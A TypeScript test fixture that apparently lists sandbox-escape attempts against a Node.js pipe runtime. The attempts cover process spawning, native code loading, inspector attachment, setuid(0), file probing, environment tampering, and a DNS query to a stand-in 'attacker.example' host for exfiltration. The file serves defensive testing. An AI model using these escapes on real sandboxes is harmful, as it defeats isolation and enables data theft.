/** The code with which pipes of `pipe-runtime.test.ts` try to get past their runtime. */

/** Each may throw; one that returns the word of a file, or says REACHED, has got through. */
export const ATTEMPTS: Record<string, string> = {
  'a report by call': "process.report.writeReport(VICTIM); return 'REACHED'",
  'a report by its settings':
    "Object.assign(process.report, { directory: HOME, reportOnUncaughtException: true }); return 'REACHED'",
  'a heap snapshot': "v8.writeHeapSnapshot(HOME + '/heap'); return 'REACHED'",
  coverage: 'process.env.NODE_V8_COVERAGE = HOME; v8.takeCoverage(); v8.stopCoverage()',
  'the compile cache':
    "module.enableCompileCache(HOME + '/cache'); module.flushCompileCache(); return 'REACHED'",
  'the compile cache by the environment':
    "process.env.NODE_COMPILE_CACHE = HOME; module.enableCompileCache(); return 'REACHED'",
  'a trace': "trace.createTracing({ categories: ['node', 'v8'] }).enable(); return 'REACHED'",
  'a profile by the inspector':
    "const session = new inspector.Session(); session.connect(); return 'REACHED'",
  'a profile by V8': 'const profile = v8.startCpuProfile(); return String(profile.stop()).length',
  'the inspector of itself': "inspector.open(0, '127.0.0.1'); return 'REACHED'",
  'the inspector by a signal': "process.kill(process.pid, 'SIGUSR1'); return 'REACHED'",
  'the inspector of another': "process._debugProcess(process.ppid); return 'REACHED'",
  'certificates of the environment': `process.env.SSL_CERT_FILE = HOME + '/cert.pem'; process.env.SSL_CERT_DIR = HOME;
    const own = tls.getCACertificates('system').map((pem) => new crypto.X509Certificate(pem).subject);
    return own.some((subject) => subject.includes('caracal')) ? 'REACHED' : ''`,
  'extra certificates of the environment': `process.env.NODE_EXTRA_CA_CERTS = HOME + '/cert.pem';
    return tls.getCACertificates('extra').length > 0 ? 'REACHED' : ''`,
  'a module of OpenSSL': `process.env.OPENSSL_MODULES = HOME; process.env.OPENSSL_CONF = VICTIM;
    crypto.setFips(false); return crypto.getFips() ? 'REACHED' : ''`,
  'an engine of OpenSSL':
    "process.env.OPENSSL_ENGINES = HOME; crypto.setEngine('victim'); return 'REACHED'",
  'an engine of TLS': "tls.createSecureContext({ clientCertEngine: VICTIM }); return 'REACHED'",
  'a time zone': `process.env.TZ = ':' + VICTIM; return new Date(0).toString()`,
  'the environment of the C library':
    "Object.getOwnPropertyDescriptor(process, 'env').configurable && 'REACHED'",
  'a source map': `const file = ctx.outputFolder + '/mapped.cjs';
    fs.writeFileSync(file, 'exports.stack = new Error().stack;\\n//# sourceMappingURL=file://' + HOME + '/map.json');
    process.setSourceMapsEnabled(true); return module.createRequire(import.meta.url)(file).stack`,
  'a source map by its finder': "return JSON.stringify(module.findSourceMap(HOME + '/map.json'))",
  'settings of a file': 'process.loadEnvFile(HOME + "/settings.env"); return process.env.WORD',
  'a database':
    "new (process.getBuiltinModule('node:sqlite').DatabaseSync)(VICTIM); return 'REACHED'",
  'storage of pages': "globalThis.localStorage.setItem('a', 'b'); return 'REACHED'",
  'the system interface of WebAssembly':
    "new (process.getBuiltinModule('node:wasi').WASI)({ version: 'preview1', preopens: { '/': HOME } }); return 'REACHED'",
  'foreign functions': "Object.keys(process.getBuiltinModule('node:ffi')); return 'REACHED'",
  'native code': "process.dlopen({ exports: {} }, VICTIM); return 'REACHED'",
  'native code by a require':
    "module.createRequire(import.meta.url)(HOME + '/a.node'); return 'REACHED'",
  'bindings of the runtime': "process.binding('fs'); return 'REACHED'",
  'linked bindings': "process._linkedBinding('fs'); return 'REACHED'",
  'a module of a file':
    "return JSON.stringify(module.createRequire(import.meta.url)(HOME + '/module.json'))",
  'a module of a file by an import':
    "return JSON.stringify(await import('file://' + HOME + '/module.json', { with: { type: 'json' } }))",
  'a package by its folder': 'module.createRequire(import.meta.url)(HOME)',
  'a package by its finder':
    'return String(module.findPackageJSON("./x.js", "file://" + HOME + "/x.js")).includes(HOME) && "REACHED"',
  'a package by its reader': 'return JSON.stringify(module._readPackage(HOME))',
  'a thread':
    "new (process.getBuiltinModule('worker_threads').Worker)('', { eval: true }); return 'REACHED'",
  'hooks in a thread': "module.register('data:text/javascript,'); return 'REACHED'",
  'a process': "process.getBuiltinModule('child_process').spawnSync('/bin/true'); return 'REACHED'",
  'a process by its handle':
    "new (process.getBuiltinModule('child_process').ChildProcess)().spawn({ file: '/bin/true', args: [], stdio: [] }); return 'REACHED'",
  'a process in its place': "process.execve('/bin/true'); return 'REACHED'",
  'a process of the cluster': "process.getBuiltinModule('cluster').fork(); return 'REACHED'",
  'a run of tests': `const events = process.getBuiltinModule('node:test').run({ files: [VICTIM], isolation: 'none' });
    for await (const event of events) if (event.type === 'test:pass') return 'REACHED'`,
  'the history of a prompt': `const repl = process.getBuiltinModule('repl').start({ input: new stream.PassThrough(), output: new stream.PassThrough() });
    await new Promise((done) => repl.setupHistory(HOME + '/history', done))`,
  'a connection by TLS': `const { _handle } = new tls.TLSSocket();
    fs.stat(import.meta.filename, () => {});
    const [request] = process._getActiveRequests(); await pause();
    _handle._parent.connect(Object.assign(request, { oncomplete: () => {} }), '127.0.0.1', TCP)`,
  'a connection by a handle of TLS': `const { _handle } = new tls.TLSSocket();
    return new net.Socket({ handle: _handle._parent }).connect(TCP, '127.0.0.1')`,
  'a connection by HTTP': "http.get({ port: TCP, host: '127.0.0.1' }).on('error', () => {})",
  'a connection by an agent': "new http.Agent().createConnection({ port: TCP, host: '127.0.0.1' })",
  'a connection by HTTP/2': "process.getBuiltinModule('http2').connect('http://127.0.0.1:' + TCP)",
  'a connection by fetch': "await fetch('http://127.0.0.1:' + TCP)",
  'a connection that accepts': "net.createServer().listen(0); return 'REACHED'",
  'a listener by TLS': `const { _handle } = new tls.TLSSocket();
    if (_handle._parent.bind('127.0.0.1', 0) === 0) return 'REACHED'`,
  'a name by the servers of DNS': `const got = requests();
    try { dns.setServers(['127.0.0.1:' + UDP]) } catch {}
    fs.stat(import.meta.filename, () => {}); await pause();
    const query = got.FSREQCALLBACK[0]; query.oncomplete = () => {};
    got.DNSCHANNEL[0].queryTxt(query, 'word.attacker.example'); await pause()`,
  'a name by an own resolver':
    "new dns.Resolver().setServers(['127.0.0.1:' + UDP]); return 'REACHED'",
  'the servers of DNS': "dns.getServers(); return 'REACHED'",
  'the servers of DNS by a promise':
    "dns.promises.setServers(['127.0.0.1:' + UDP]); return 'REACHED'",
  'a datagram':
    "process.getBuiltinModule('dgram').createSocket('udp4').send('x', UDP, '127.0.0.1')",
  'inner objects by hooks': `const got = requests(); fs.stat(import.meta.filename, () => {}); await pause();
    return Object.values(got).flat().some((each) => each.constructor !== Object) && 'REACHED'`,
  'inner objects of now': `const got = await new Promise((resolve) =>
      fs.stat(import.meta.filename, () => resolve(async_hooks.executionAsyncResource())));
    return got.constructor !== Object && 'REACHED'`,
  'inner objects by a list': "return process._getActiveHandles().length > 0 && 'REACHED'",
  'another user': 'process.setuid(0); process.setgid(0)',
  // Broken locale data ends the process that reads it: see the control below.
  'locale data of the environment':
    "process.env.NODE_ICU_DATA = HOME; new Date(0).toLocaleString('af')",
  'locale data of its settings': `process.env.ICU_DATA = HOME; process.config.variables.icu_data_in = HOME;
    new Intl.DisplayNames(['is'], { type: 'region' }).of('US')`,
};

/** Each is given a path that exists and one that does not; what it says must not differ, but for the path. */
export const WAYS_TO_PROBE: Record<string, string> = {
  'require.resolve': 'return own.resolve(path)',
  'require.resolve with folders':
    "return own.resolve('./' + path.split('/').at(-1), { paths: [HOME] })",
  'require.resolve from elsewhere':
    "return module.createRequire(HOME + '/x.js').resolve('./' + path.split('/').at(-1))",
  'require.resolve of a name': "return own.resolve('x/../../../' + '../'.repeat(9) + path)",
  require: 'return own(path)',
  'the search of modules': 'return module._findPath(path, [])',
  'the look at a file': 'return module._stat(path)',
  'the name of a module': 'return module._resolveFilename(path)',
  'the start of a program': 'return module.runMain(path)',
  'the package of a module': 'return module.findPackageJSON(path, import.meta.url)',
  'the package of an address': "return module.findPackageJSON('file://' + path)",
  'the package next to another':
    "return module.findPackageJSON('./' + path.split('/').at(-1), 'file://' + HOME + '/x.js')",
  import: 'return await import(path)',
  'import of an address': "return await import('file://' + path)",
  'import of an address in capitals': "return await import('FILE://' + path)",
  'import with a question': "return await import('file://' + path + '?x')",
  'import.meta.resolve': "return import.meta.resolve('file://' + path)",
  'hooks that say where from': `const { deregister } = module.registerHooks({ resolve: (name, context, next) =>
      next(name === 'probe:' ? './' + path.split('/').at(-1) : name, { ...context, parentURL: 'file://' + HOME + '/x.js' }) });
    try { return await import('probe:') } finally { deregister() }`,
  'hooks that load': `const hooks = module.registerHooks({ resolve: (name, context, next) =>
      name.startsWith('probe:') ? { url: 'file://' + path, format: 'module', shortCircuit: true } : next(name, context) });
    try { return await import('probe:' + path) } finally { hooks.deregister() }`,
  'the real path': 'return fs.realpathSync(path)',
  'the real path by bytes': 'return String(fs.realpathSync(Buffer.from(path)))',
  'the real path of an address': "return fs.realpathSync(new URL('file://' + path))",
  'the real path by the system': 'return fs.realpathSync.native(path)',
  'its own folder': 'process.chdir(path); return process.cwd()',
  existsSync: 'return fs.existsSync(path)',
  statSync: 'return fs.statSync(path, { throwIfNoEntry: false })',
  'a list of matches': 'return fs.globSync(path)',
  'a watch': 'return fs.watch(path).close()',
};

/** Each is given a file of the pipe that names another time zone, which shows in every date once the real environment has it. */
export const WAYS_TO_THE_ENVIRONMENT: Record<string, string> = {
  'process.env': "process.env.TZ = 'Pacific/Chatham'",
  'another name of process.env': `(await import('node:process')).env.TZ = 'Pacific/Chatham';
    module.createRequire(import.meta.url)('process').env.TZ = 'Pacific/Chatham'`,
  'process.env of a prompt': `const repl = process.getBuiltinModule('repl').start({ input: new stream.PassThrough(), output: new stream.PassThrough() });
    repl.context.process.env.TZ = 'Pacific/Chatham'`,
  loadEnvFile: 'process.loadEnvFile(ENV)',
  'loadEnvFile without a path': 'process.loadEnvFile()',
  'another name of loadEnvFile': "(await import('node:process')).loadEnvFile(ENV)",
  'loadEnvFile put back': `delete process.loadEnvFile;
    Object.getPrototypeOf(process).loadEnvFile(ENV)`,
  'a thread that shares it': `const { Worker, SHARE_ENV } = process.getBuiltinModule('worker_threads');
    new Worker("process.env.TZ = 'Pacific/Chatham'", { eval: true, env: SHARE_ENV }); await pause(200)`,
  'a run of tests': `const { run } = process.getBuiltinModule('node:test');
    for await (const event of run({ files: [ENV], isolation: 'none', env: { TZ: 'Pacific/Chatham' } })) void event`,
  'a program in its place': "process.execve(process.execPath, [], { TZ: 'Pacific/Chatham' })",
};

/** Each collects what it gets hold of in `got`; the native object of a request to the file system must not be there. */
export const WAYS_TO_INNER_OBJECTS: Record<string, string> = {
  'the class of a hook': `const hook = async_hooks.createHook({});
    new (hook.constructor)({ init: (id, type, cause, resource) => got.push(resource) }).enable(); await look()`,
  'the prototype of a hook': `const hook = Object.getPrototypeOf(async_hooks.createHook({ init() {} }));
    hook.enable.call(Object.assign(Object.create(hook), { init: (id, type, cause, resource) => got.push(resource) })); await look()`,
  'functions inside a hook': `const hook = async_hooks.createHook({ init() {} });
    for (const key of Reflect.ownKeys(hook)) hook[key] = (...all) => got.push(...all);
    hook.enable(); await look()`,
  'a setter that a request inherits': `Object.defineProperty(Object.prototype, 'oncomplete', { set(value) { got.push(this) }, configurable: true }); await look()`,
  'a setter on the class of all native objects': `let native = new tls.TLSSocket()._handle;
    while (Object.getPrototypeOf(Object.getPrototypeOf(native))) native = Object.getPrototypeOf(native);
    Object.defineProperty(native, 'oncomplete', { set(value) { got.push(this) }, configurable: true }); await look()`,
  'another class below all native objects': `let native = new tls.TLSSocket()._handle;
    while (Object.getPrototypeOf(Object.getPrototypeOf(native))) native = Object.getPrototypeOf(native);
    Object.setPrototypeOf(native, { set oncomplete(value) { got.push(this) } }); await look()`,
  'storage that follows calls': `const storage = new async_hooks.AsyncLocalStorage();
    storage._propagate = (...all) => got.push(...all); storage._enable?.();
    storage.run({}, () => fs.stat(import.meta.filename, function () { got.push(this, async_hooks.executionAsyncResource(), storage.getStore()) })); await look()`,
  'its own resource': `new async_hooks.AsyncResource('own').runInAsyncScope(() => got.push(async_hooks.executionAsyncResource())); await look()`,
  'the list of what is active': 'await look(); got.push(...process.getActiveResourcesInfo())',
  'news of the runtime': `const channels = process.getBuiltinModule('diagnostics_channel');
    for (const name of ['net.client.socket', 'net.server.socket', 'udp.socket', 'fs', 'tracing:fs:start', 'child_process', 'worker_threads', 'module.require.start'])
      channels.subscribe(name, (...all) => got.push(...all)); await look()`,
  'a domain': `const domain = process.getBuiltinModule('domain').create();
    domain.run(() => fs.stat(import.meta.filename, () => got.push(...domain.members))); await look()`,
  promises: `v8.promiseHooks.createHook({ init: (...all) => got.push(...all) }); await fs.promises.stat(import.meta.filename); await look()`,
};

export const HEAD = `
const { v8, module, crypto, tls, net, http, dns, fs, stream, inspector, async_hooks } = Object.fromEntries(
  ['v8', 'module', 'crypto', 'tls', 'net', 'http', 'dns', 'fs', 'stream', 'inspector', 'async_hooks'].map((name) => [name, process.getBuiltinModule(name)]));
const trace = process.getBuiltinModule('trace_events');
const pause = (ms = 50) => new Promise((resolve) => setTimeout(resolve, ms));
const requests = () => {
  const got = {};
  async_hooks.createHook({ init: (id, type, cause, resource) => (got[type] ??= []).push(resource) }).enable();
  return got;
};
for (const name of ['uncaughtException', 'unhandledRejection']) process.removeAllListeners(name).on(name, () => {});
`;
